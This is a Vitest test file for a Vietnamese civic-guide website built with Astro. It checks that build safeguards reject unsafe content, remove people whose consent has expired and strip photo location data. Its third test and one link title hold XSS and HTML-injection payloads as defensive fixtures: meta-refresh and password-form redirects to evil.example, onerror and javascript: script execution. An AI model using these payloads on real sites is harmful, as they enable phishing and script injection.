/** The safeguards where they count: in real builds of copies of this project. */
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { tagsOf } from '../../src/lib/html.ts';
import { copyOfProject, runNode } from '../support/project-copy.ts';

const guide = 'content/guides/dang-ky-khai-sinh';

const astroBuild = [resolve('node_modules/astro/bin/astro.mjs'), 'build'];

test('what the safeguards refuse stops a real build, each mistake by file, line and remedy, and leaves no site', async () => {
  const root = copyOfProject();
  const mistakes = [
    ['script-in-body', 26, 'có mã HTML'],
    ['cut-picture', 21, 'ảnh hỏng hoặc bị cắt cụt'],
    ['layout', 2, 'không được đặt bố cục'],
    ['javascript-frontmatter', 1, 'chỉ được viết bằng YAML'],
  ] as const;
  for (const [name] of mistakes) {
    cpSync(join('tests/fixtures/bad-content', name, guide), join(root, 'content/guides', name), { recursive: true });
  }
  const { code, output } = await runNode(root, astroBuild);
  expect(code).not.toBe(0);
  for (const [name, line, message] of mistakes) {
    const told = output.split('\n').filter((each) => each.includes(`content/guides/${name}/index.md:${String(line)} `));
    expect(told.join('\n'), name).toContain(message);
  }
  expect(output).not.toMatch(/\n\s+at .*\(?(?:file:|\/)/);
  expect(existsSync(join(root, 'dist'))).toBe(false);
});

test('a link that leads nowhere leaves the last good site; without it a photograph loses where it was taken, and a person whose consent has ended goes', async () => {
  const root = copyOfProject();
  const photograph = sharp({
    create: {
      width: 900,
      height: 600,
      channels: 3,
      background: '#a33',
      noise: { type: 'gaussian', mean: 128, sigma: 20 },
    },
  });
  const exif = { IFD0: { Copyright: 'A' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '10/1 46/1 0/1' } };
  const withPlace = photograph.jpeg().withExif(exif);
  writeFileSync(join(root, guide, 'anh.jpg'), await withPlace.toBuffer());
  // Only the link card is drawn from a guide's cover, which no page shows.
  writeFileSync(join(root, guide, 'bia.jpg'), await withPlace.toBuffer());
  const page = join(root, guide, 'index.md');
  const write = (body: string) => {
    const text = readFileSync(`tests/fixtures/good-content/${guide}/index.md`, 'utf8');
    const former = 'previousUrls: [/giay-khai-sinh/, /tre-em/khai-sinh/]';
    const fields = `cover: bia.jpg\ncoverAlt: Quầy của phường\n${former}\npublishedOn:`;
    writeFileSync(page, `${text.replace('publishedOn:', fields)}\n${body}\n`);
  };
  const consent = 'consent:\n  givenOn: 2026-01-02\n  scope: [text]\n  until: 2026-01-31';
  const profile = join(root, 'content/profiles/nguyen-van-a/index.md');
  writeFileSync(profile, readFileSync(profile, 'utf8').replace('sample: true', consent));
  const hostile = 'x><meta http-equiv=refresh content=0;url=https://evil.example/><style>main{display:none}</style>';
  write(
    '![Bà con ở quầy](anh.jpg)\n\nNhư [chị A](/guong/nguyen-van-a/) đã làm.\n\n' +
      `Xem [bài *này*](/guong/nguyen-van-a/ '${hostile}') và [kia](/guong/nguyen-van-a/#a "giá > 5.000 đ").\n\n` +
      `Ở [danh sách](/huong-dan/ "giá > 5.000 đ") và [đây](/huong-dan/ '${hostile}').`,
  );
  const good = await runNode(root, ['src/tools/build.ts']);
  expect(good.code, good.output).toBe(0);
  // Pages that lead on from the addresses of one entry are the same text, and are compressed at the same time.
  for (const address of ['h/khai-sinh', 'giay-khai-sinh', 'tre-em/khai-sinh', 'phuong/tan-phu', 'tan-phu']) {
    expect(existsSync(join(root, `dist/${address}/index.html.br`)), address).toBe(true);
  }
  // A person whose consent has ended goes at the next build, whoever names them.
  expect(existsSync(join(root, 'dist/guong/nguyen-van-a/index.html'))).toBe(false);
  const report = readFileSync(join(root, 'dist/bien-tap/index.html'), 'utf8');
  expect(report).toContain('Gương đã hết hạn đồng ý');
  expect(report).not.toMatch(/nguyen-van-a|Nguyễn Văn A/);
  const tasks = readFileSync(join(root, 'dist/bien-tap/viec-can-lam.csv'), 'utf8');
  expect(tasks).not.toMatch(/nguyen-van-a|Nguyễn Văn A/);
  const named = readFileSync(join(root, 'dist/huong-dan/dang-ky-khai-sinh/index.html'), 'utf8');
  expect(named).toContain('<p>Như chị A đã làm.</p>');
  expect(named).toContain('<p>Xem bài <em>này</em> và kia.</p>');
  // Titles of links that stay are texts, whatever is in them.
  const titles = tagsOf(named).flatMap(({ name, attributes }) => (name === 'a' ? [attributes.get('title')] : []));
  expect(titles).toEqual(expect.arrayContaining(['giá > 5.000 đ', hostile]));
  expect(tagsOf(named).filter(({ attributes }) => attributes.get('http-equiv') === 'refresh')).toEqual([]);
  expect(good.output).toContain('“/guong/nguyen-van-a/” dẫn tới bài đang không hiện');

  write('[Xem](/huong-dan/dang-ky-khai-tu/) và [phần này](/don-vi/phuong-tan-phu/#khong-co)');
  writeFileSync(join(root, 'dist/mark'), 'the last good site');
  const bad = await runNode(root, ['src/tools/build.ts']);
  expect(bad.code).toBe(1);
  expect(bad.output).toMatch(
    /dang-ky-khai-sinh\/index\.md:\d+ · Bài viết .*“\/huong-dan\/dang-ky-khai-tu\/” không dẫn tới trang nào/,
  );
  expect(bad.output).toMatch(/“\/don-vi\/phuong-tan-phu\/#khong-co” dẫn tới một phần không có\. Trang ấy có: #/);
  expect(existsSync(join(root, 'dist/mark'))).toBe(true);
});

test('HTML that gets into a page through a hole in a template is refused, each piece by name', async () => {
  const root = copyOfProject();
  const hole = join(root, 'src/components/guide/GuideArticle.astro');
  const inside = [
    '<meta http-equiv=refresh content=0;url=https://evil.example/>',
    '<form action=https://evil.example/><input type=password></form>',
    '<base href=https://evil.example/>',
    '<style>main{display:none}</style>',
    '<a href=/ style=position:fixed;inset:0>a</a>',
    '<iframe srcdoc=a></iframe><object data=/></object><embed src=/>',
    '<link rel=stylesheet href=/favicon.svg>',
    '<img src=/favicon.svg alt onerror=alert(1)>',
    '<a href=javascript:alert(1)>a</a>',
    '<script src=/favicon.svg></script><script>alert(1)</script>',
    '<video src=/favicon.svg></video>',
  ];
  const template = readFileSync(hole, 'utf8');
  expect(template).toContain('<slot />');
  writeFileSync(
    hole,
    template.replace('<slot />', `<slot /><Fragment set:html={${JSON.stringify(inside.join(''))}} />`),
  );
  const { code, output } = await runNode(root, astroBuild);
  expect(code).not.toBe(0);
  const ofGuide = output
    .split('\n')
    .filter((line) => line.includes(`${guide}/index.md · `))
    .join('\n');
  for (const message of [
    'tự đưa người đọc đi nơi khác (“0;url=https://evil.example/”)',
    'biểu mẫu không thuộc trang này (gửi tới “https://evil.example/”)',
    'ô nhập loại “password”',
    'thẻ <base>',
    'kiểu trình bày không thuộc trang này (“main{display:none}…”)',
    'thuộc tính “style” (“position:fixed;inset:0”)',
    'khung nhúng <iframe>',
    'khung nhúng <object>',
    'khung nhúng <embed>',
    'thẻ <link> không thuộc trang này (/favicon.svg)',
    'mã chạy trong thuộc tính “onerror”',
    'địa chỉ không an toàn “javascript:alert(1)”',
    'mã chạy tải từ nơi khác (/favicon.svg)',
    'mã chạy không thuộc trang này (“alert(1)…”)',
    'thẻ <video>',
  ])
    expect(ofGuide).toContain(message);
});
